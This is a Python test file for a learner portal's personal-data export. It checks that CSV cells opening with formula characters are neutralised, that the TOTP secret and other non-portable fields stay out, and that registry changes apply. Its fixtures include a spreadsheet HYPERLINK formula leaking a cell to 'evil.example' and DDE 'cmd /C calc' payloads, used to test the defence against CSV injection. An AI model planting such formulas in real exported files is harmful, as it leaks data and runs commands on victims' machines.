"""The portable copy's kinds PostgreSQL writes: made from the registry, safe in a spreadsheet, nothing undeclared."""

import csv
import dataclasses
import io
import json
import zipfile

import pytest
from django.db import connection

from accounts.models import LearningEvent, TOTPDevice, UserSession
from compliance.registry import registry
from learnerportal import spreadsheets
from learnerportal.tests.factories import CourseFactory, LearningEventFactory, QuizResultFactory, TOTPDeviceFactory
from rights_requests.datasets import portable_datasets
from rights_requests.portability import portable_export_file
from rights_requests.portable_sql import lines_query, portable_lines, written_by_database

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click to verify")'


def dataset_of(model):
    return next(dataset for dataset in portable_datasets() if dataset.declaration.model is model)


def copy_of(subject):
    """Return ``{name: bytes}`` of the subject's portable copy."""
    with portable_export_file(subject) as output, zipfile.ZipFile(output) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def csv_records(entries, name):
    return list(csv.DictReader(io.StringIO(entries[name].decode("utf-8"), newline="")))


@pytest.fixture
def redeclared():
    """Replace a model's registry declaration for one test, then put the original back."""
    originals = []

    def redeclare(model, **changes):
        original = registry.unregister(model)
        originals.append(original)
        registry.register(dataclasses.replace(original, **changes))

    yield redeclare
    for original in originals:
        registry.unregister(original.model)
        registry.register(original)


def test_postgresql_marks_the_same_cells_as_python():
    """The formula rule (OWASP CSV injection) is one pattern; PostgreSQL must read it as Python's ``cell()`` does."""
    starts = sorted(spreadsheets.FORMULA_STARTS - {"\0"} | spreadsheets.FORMULA_STARTS_AFTER_SPACE)
    spaces = [character for character in map(chr, range(1, 0x3001)) if character.isspace()]
    others = ["a", "1", "'", '"', "中", "\u200b", "=", "\\", "[", "]", "^", "-"]
    texts = [
        text
        for first in starts + spaces + others
        for text in (first, first + "1+1", first + first + "=1", " " + first, first + "x=1", "\u3000" + first + "@")
    ]
    with connection.cursor() as cursor:
        cursor.execute(
            "SELECT text ~ %s FROM unnest(%s::text[]) WITH ORDINALITY AS t(text, n) ORDER BY n",
            [
                spreadsheets.FORMULA_PATTERN,
                texts,
            ],
        )
        marked_by_postgresql = [marked for (marked,) in cursor.fetchall()]

    marked_by_python = [spreadsheets.cell(text) != text for text in texts]
    assert marked_by_postgresql == marked_by_python
    assert sum(marked_by_python) > len(texts) // 3, "the texts try both sides of the rule"


def test_a_formula_in_a_kind_postgresql_writes_is_text_in_the_csv_and_exact_in_the_json(amara):
    course = CourseFactory(title=HYPERLINK)
    LearningEventFactory(user=amara, course=course)
    QuizResultFactory(enrollment__user=amara, enrollment__course=course, quiz_title="-2+3+cmd|' /C calc'!A0")
    UserSession.objects.create(
        user=amara, session_id="a-session-key", user_agent="@SUM(1+1)*cmd|' /C calc'!A0", network=""
    )

    entries = copy_of(amara)

    for model in (LearningEvent, UserSession):
        assert written_by_database(dataset_of(model), amara), model
    assert [row["course"] for row in csv_records(entries, "learning_activity.csv")] == ["'" + HYPERLINK]
    assert [row["course"] for row in csv_records(entries, "quiz_results.csv")] == ["'" + HYPERLINK]
    assert [row["quiz_title"] for row in csv_records(entries, "quiz_results.csv")] == ["'-2+3+cmd|' /C calc'!A0"]
    assert [row["browser"] for row in csv_records(entries, "sessions.csv")] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert [event["course"] for event in json.loads(entries["learning_activity.json"])] == [HYPERLINK]
    assert [s["browser"] for s in json.loads(entries["sessions.json"])] == ["@SUM(1+1)*cmd|' /C calc'!A0"]


def test_what_the_registry_keeps_out_of_the_copy_never_reaches_the_query(amara, redeclared):
    TOTPDeviceFactory(user=amara, name="Work phone", last_t=57_391_011, drift=-7, throttling_failure_count=4_242)
    secret = TOTPDevice.objects.get(user=amara).key
    dataset = dataset_of(TOTPDevice)

    query = lines_query(dataset, amara)
    entries = copy_of(amara)

    assert written_by_database(dataset, amara)
    for column in ("last_t", "drift", "throttling_failure_count", "throttling_failure_timestamp", '"key"'):
        assert column not in query.text, f"{column} is declared portable=False or exportable=False"
    files = entries["authenticator_apps.csv"] + entries["authenticator_apps.json"]
    for value in (b"57391011", b"4242", secret.encode()):
        assert value not in files
    assert csv_records(entries, "authenticator_apps.csv")[0]["name"] == "Work phone"

    declaration = registry.get(TOTPDevice)
    redeclared(
        TOTPDevice,
        fields=declaration.fields | {"name": dataclasses.replace(declaration.fields["name"], portable=False)},
    )
    entries = copy_of(amara)

    assert "name" not in csv_records(entries, "authenticator_apps.csv")[0]
    assert "Work phone" not in (entries["authenticator_apps.csv"] + entries["authenticator_apps.json"]).decode()


def test_a_kind_declared_anew_is_written_by_postgresql_as_declared_without_code(amara, redeclared):
    course = CourseFactory(title="Data Ethics")
    LearningEventFactory.create_batch(5, user=amara, course=course)
    declaration = registry.get(LearningEvent)
    fields = {
        "course": declaration.fields["course"],
        "occurred_at": dataclasses.replace(declaration.fields["occurred_at"], export_name="happened_at"),
        "event_type": declaration.fields["event_type"],
    }
    redeclared(LearningEvent, export_name="course_activity", fields=fields)

    entries = copy_of(amara)
    chunks = list(portable_lines(dataset_of(LearningEvent), amara, chunk_size=2))

    assert "learning_activity.csv" not in entries
    records = json.loads(entries["course_activity.json"])
    assert [list(record) for record in records] == [["course", "happened_at", "event_type"]] * 5
    assert {record["course"] for record in records} == {"Data Ethics"}
    assert list(csv_records(entries, "course_activity.csv")[0]) == ["course", "happened_at", "event_type"]
    assert [len(chunk) for chunk in chunks] == [2, 2, 1], "read a chunk at a time"
    manifest = json.loads(entries["manifest.json"])
    assert {"records": "course_activity", "rows": 5} in [
        {k: e[k] for k in ("records", "rows")} for e in manifest["files"]
    ]


def test_kinds_with_encrypted_columns_files_or_export_as_are_left_to_python(amara):
    by_database = {
        dataset.declaration.records_name: written_by_database(dataset, amara) for dataset in portable_datasets()
    }

    assert not by_database["profile"], "phone and date of birth are encrypted; the photo is a file"
    assert not by_database["data_rights_requests"], "a request's details are encrypted"
    assert not by_database["failed_sign_ins"], "the address is given as its network (export_as)"
    assert by_database["learning_activity"] and by_database["enrollments"] and by_database["activity_log"]
